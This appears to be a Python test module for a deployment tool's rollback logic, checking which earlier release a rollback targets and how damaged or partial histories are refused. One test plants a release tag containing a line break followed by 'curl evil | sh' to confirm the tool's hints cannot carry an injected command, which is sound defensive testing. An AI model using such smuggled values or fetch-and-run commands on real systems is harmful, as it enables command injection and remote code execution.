"""Where a rollback goes, and why it has nowhere to go."""

from __future__ import annotations

import json
from collections.abc import Sequence
from itertools import pairwise
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from deployctl.release import record, way_back
from deployctl.release.record import BROKEN, INTERRUPTED, RESTORED, STARTED, History
from deployctl.release.way_back import NoTarget
from tests.unit.build import WEB, entry, recorded, release, successes, tag, text


def target(found: History, running: int | None, *, well: bool = True) -> int:
    """The number of the release that a rollback goes to."""
    runs = None if running is None else release(running)
    tag_ = way_back.rollback_target(found, WEB, runs, well=well).release.tag
    return int(tag_.removeprefix("sha-"), 16)


def refusal(found: History, running: int | None, *, well: bool = True) -> NoTarget:
    with pytest.raises(NoTarget) as caught:
        target(found, running, well=well)
    return caught.value


THREE = (entry(1, 1), entry(2, 2), entry(3, 3))
ROLLED_BACK = recorded(*THREE, entry(4, 2, action="rollback"))
ROLLED_BACK_BY_NAME = recorded(*THREE, entry(4, 1, action="rollback"))
FORWARD_BY_NAME = recorded(
    entry(1, 1), entry(2, 2), entry(3, 1, action="rollback"), entry(4, 2, action="rollback")
)
LAST_LINE_UNREADABLE = record.parse(
    text([entry(1, 1), entry(2, 2)]) + json.dumps(entry(3, 3, v=2)).encode() + b"\n"
)


def third(event: str) -> History:
    """Releases 1 and 2 succeeded, and this became of the deploy of release 3."""
    return recorded(entry(1, 1), entry(2, 2), entry(3, 3, event, previous=2))


@pytest.mark.parametrize(
    ("found", "running", "goes_to"),
    [
        pytest.param(successes(1, 2, 3), 3, 2, id="the release before"),
        pytest.param(ROLLED_BACK, 2, 1, id="a second rollback goes further back"),
        pytest.param(
            successes(1, 2, 2, 2), 2, 1, id="deployed again, the one before is not hidden"
        ),
        pytest.param(successes(1, 2, 1), 1, 2, id="deployed twice, it lies on the stack twice"),
        pytest.param(FORWARD_BY_NAME, 2, 1, id="forward again by name keeps the way back"),
        pytest.param(successes(1, 2), 9, 2, id="started by hand"),
        pytest.param(successes(1, 2), None, 2, id="nothing or a mixture runs"),
        pytest.param(
            recorded(entry(1, 1), entry(4, 2), entry(5, 3)), 3, 2, id="lines missing before it"
        ),
    ],
)
def test_what_runs_well_goes_back_to(found: History, running: int | None, goes_to: int) -> None:
    assert target(found, running) == goes_to


@pytest.mark.parametrize(
    ("found", "running", "goes_to"),
    [
        pytest.param(successes(1, 2), 2, 1, id="it succeeded once"),
        pytest.param(
            recorded(*THREE[:2], entry(3, 3, STARTED, previous=2), entry(4, 3, BROKEN, previous=2)),
            3,
            2,
            id="its deploy failed and could not be put back",
        ),
        pytest.param(third(STARTED), 2, 2, id="a run that goes on left the old one unwell"),
        pytest.param(third(BROKEN), 2, 2, id="a broken run left the old one unwell"),
        pytest.param(third(INTERRUPTED), 2, 2, id="a killed run left the old one unwell"),
        pytest.param(third(RESTORED), 2, 1, id="it was put back"),
    ],
)
def test_what_is_unwell_goes_back_to(found: History, running: int, goes_to: int) -> None:
    assert target(found, running, well=False) == goes_to


@pytest.mark.parametrize(
    ("found", "running", "code"),
    [
        pytest.param(ROLLED_BACK_BY_NAME, 1, "no-older-success", id="went down to it by name"),
        pytest.param(successes(1), 1, "no-older-success", id="a first release"),
        pytest.param(History(), None, "no-success", id="never deployed"),
        pytest.param(recorded(entry(1, 1, BROKEN)), 1, "no-success", id="never succeeded"),
        pytest.param(
            recorded(entry(1, 1, service="other")), 1, "no-success", id="another service's success"
        ),
        pytest.param(LAST_LINE_UNREADABLE, 3, "history-damaged", id="last line unreadable"),
    ],
)
def test_there_is_no_way_back(found: History, running: int | None, code: str) -> None:
    assert refusal(found, running).code == code


def test_a_rollback_to_a_release_from_before_the_part_that_was_read_hides_what_it_went_over() -> (
    None
):
    lines = [entry(1, 1), entry(2, 2), entry(3, 3), entry(4, 1, action="rollback")]
    data = text(lines)
    found = record.parse(text(lines[1:]), size=len(data))

    assert refusal(found, 1).code == "no-older-success"


def test_while_a_deploy_goes_on_the_release_that_it_started_from_is_gone_back_to() -> None:
    found = recorded(entry(1, 1), entry(2, 2), entry(3, 3, STARTED))

    assert way_back.target_during_deploy(found, WEB).release == release(2)


def test_a_first_deploy_that_goes_on_cannot_be_gone_back_from() -> None:
    with pytest.raises(NoTarget, match="no successful deploy"):
        way_back.target_during_deploy(recorded(entry(1, 1, STARTED)), WEB)


def test_a_deploy_that_was_put_back_leaves_nothing_to_undo_and_names_the_way_further_back() -> None:
    none = refusal(third(RESTORED), 2)

    assert none.code == "already-put-back"
    assert f"{tag(3)} failed and {tag(2)} was put back" in none.reason
    assert none.hint.endswith(f"deployctl rollback {WEB} {tag(1)}")


def test_what_has_no_tag_of_ours_and_was_left_alone_leaves_nothing_to_undo_either() -> None:
    failed = entry(3, 3, RESTORED, previous=2, serves="", rung="untouched")

    none = refusal(recorded(entry(1, 1), entry(2, 2), failed), 5)

    assert none.code == "already-put-back"


@pytest.mark.parametrize("event", [STARTED, BROKEN, INTERRUPTED])
def test_a_run_that_left_nothing_new_leaves_nothing_to_undo(event: str) -> None:
    none = refusal(third(event), 2)

    assert none.code == "nothing-to-undo"
    assert f"{tag(3)} did not succeed, and {tag(2)} serves as before" in none.reason
    assert none.hint.endswith(f"deployctl rollback {WEB} {tag(1)}")


@pytest.mark.parametrize("event", [STARTED, BROKEN, INTERRUPTED])
@pytest.mark.parametrize("well", [True, False])
def test_from_a_release_that_failed_the_way_back_is_the_last_success(
    event: str, well: bool
) -> None:
    assert target(third(event), 3, well=well) == 2


def test_what_was_started_by_hand_before_a_run_that_failed_is_nothing_to_undo_either() -> None:
    found = recorded(entry(1, 1), entry(2, 3, BROKEN, previous=9))

    assert refusal(found, 9).hint.endswith(f"deployctl rollback {WEB} {tag(1)}")


def test_a_history_that_cannot_be_read_gives_no_target() -> None:
    unreadable = History(readable=False)

    assert refusal(unreadable, 1).code == "history-unreadable"
    with pytest.raises(NoTarget):
        way_back.named_target(unreadable, WEB, tag(1))


def test_lines_missing_behind_the_target_are_no_silent_answer() -> None:
    found = recorded(entry(1, 1), entry(3, 3))

    assert refusal(found, 3).code == "history-damaged"
    assert tag(1) in refusal(found, 3).hint


def test_a_named_release_must_have_succeeded_here() -> None:
    found = recorded(entry(1, 1), entry(2, 2), entry(3, 3, BROKEN))

    assert way_back.named_target(found, WEB, tag(1)).seq == 1
    with pytest.raises(NoTarget) as caught:
        way_back.named_target(found, WEB, tag(3))
    assert caught.value.code == "never-succeeded"
    assert caught.value.hint == f"tags that succeeded here: {tag(2)}, {tag(1)}"


def test_the_newest_good_tags_are_kept() -> None:
    assert way_back.known_good_tags(ROLLED_BACK, WEB, 2) == (tag(2), tag(3))
    assert way_back.known_good_tags(ROLLED_BACK, WEB, 9) == (tag(2), tag(3), tag(1))


def test_a_recorded_tag_with_a_line_break_adds_no_line_to_the_commands() -> None:
    evil = "sha-1111111\ncurl evil | sh"
    known = recorded(entry(1, 1, tag=evil), entry(3, 2))

    with pytest.raises(way_back.NoTarget) as none:
        way_back.named_target(known, WEB, "sha-7777777")
    assert "\n" not in none.value.hint

    with pytest.raises(way_back.NoTarget) as none:
        way_back.rollback_target(known, WEB, release(2), well=True)
    assert not any(line.startswith("curl") for line in none.value.hint.splitlines())


# ---------------------------------------------------------------- properties


SUCCESS = st.tuples(st.sampled_from(["deploy", "rollback"]), st.integers(1, 4))


FAILURE = st.tuples(st.sampled_from([RESTORED, BROKEN, INTERRUPTED]), st.integers(1, 4))


RUNS = st.lists(SUCCESS | SUCCESS | FAILURE, max_size=8)


def lines_of(runs: Sequence[tuple[str, int]]) -> list[dict[str, Any]]:
    """The history that these runs leave, as a real one could be: a rollback goes to what was."""
    lines: list[dict[str, Any]] = []
    good: list[int] = []
    for kind, number in runs:
        action = "rollback" if kind == "rollback" else "deploy"
        event = kind if kind in record.OUTCOMES else "succeeded"
        if action == "rollback" and number not in good:
            continue
        previous = good[-1] if good else None
        run = f"run-{len(lines)}"
        for what in (STARTED, event):
            lines.append(
                entry(len(lines) + 1, number, what, action=action, run=run, previous=previous)
            )
        if event == "succeeded":
            good.append(number)
    return lines


def answer(found: History, running: int | None, *, well: bool) -> int | None:
    try:
        return target(found, running, well=well)
    except NoTarget:
        return None


@given(RUNS, st.none() | st.integers(1, 5), st.booleans())
def test_the_target_is_a_recorded_success_and_never_what_runs_well(
    runs: list[tuple[str, int]], running: int | None, well: bool
) -> None:
    lines = lines_of(runs)
    went_to = answer(recorded(*lines), running, well=well)
    if went_to is not None:
        assert went_to in {int(e["tag"][4:], 16) for e in lines if e["event"] == "succeeded"}
        assert not well or went_to != running


@given(RUNS, FAILURE)
def test_nobody_goes_back_from_what_the_last_run_left_serving(
    runs: list[tuple[str, int]], failure: tuple[str, int]
) -> None:
    before, found = recorded(*lines_of(runs)), recorded(*lines_of([*runs, failure]))
    last = before.last_success(WEB)
    if last:
        none = refusal(found, int(last.release.tag[4:], 16))
        assert none.code in {"already-put-back", "nothing-to-undo"}


@given(RUNS, st.none() | st.integers(1, 5), st.booleans(), st.data())
def test_a_damaged_history_gives_the_same_answer_or_none(
    runs: list[tuple[str, int]], running: int | None, well: bool, data: st.DataObject
) -> None:
    lines = lines_of(runs)
    whole = [json.dumps(line).encode() for line in lines]
    garbage = st.sampled_from([b"garbage", b"{}", b"\xff", b'{"v":9}'])
    damaged = [data.draw(garbage) if data.draw(st.integers(0, 3)) == 0 else line for line in whole]
    found = record.parse(b"".join(line + b"\n" for line in damaged))
    assert answer(found, running, well=well) in right_answers(lines, running, well=well)
    assert (damaged != whole) == bool(found.problems)


@given(RUNS, st.integers(1, 5), st.integers(0, 16))
def test_a_history_that_lost_its_beginning_gives_the_same_answer_or_none(
    runs: list[tuple[str, int]], running: int, lost: int
) -> None:
    lines = lines_of(runs)
    rest = record.parse(text(lines[lost:]), size=len(text(lines)))
    assert answer(rest, running, well=True) in right_answers(lines, running, well=True)


def right_answers(
    lines: Sequence[dict[str, Any]], running: int | None, *, well: bool
) -> set[int | None]:
    """What a damaged history may answer: as the whole one, not at all, or, where something else
    than the last recorded release runs, that release.
    """
    whole = recorded(*lines)
    answers = {answer(whole, running, well=well), None}
    last = whole.last_success(WEB)
    if last and (last.release.tag != tag(running or 0) or not well):
        answers.add(int(last.release.tag[4:], 16))
    return answers


@given(RUNS, st.integers(1, 5), st.integers(0, 4000))
def test_a_history_that_is_torn_anywhere_names_what_was_the_answer_then_or_none(
    runs: list[tuple[str, int]], running: int, cut_off: int
) -> None:
    data = text(lines_of(runs))[:-1]
    kept = data[: max(0, len(data) - cut_off)]
    whole_lines = kept[: kept.rfind(b"\n") + 1]
    torn = record.parse(kept)
    assert answer(torn, running, well=True) in {
        answer(record.parse(whole_lines), running, well=True),
        answer(record.parse(kept + b"\n"), running, well=True),
        None,
    }


@given(RUNS)
def test_the_stack_has_no_release_twice_in_a_row(runs: list[tuple[str, int]]) -> None:
    found = recorded(*lines_of(runs))
    tags = [e.release.tag for e in way_back.stack(found.of(WEB))]
    assert all(one != other for one, other in pairwise(tags))
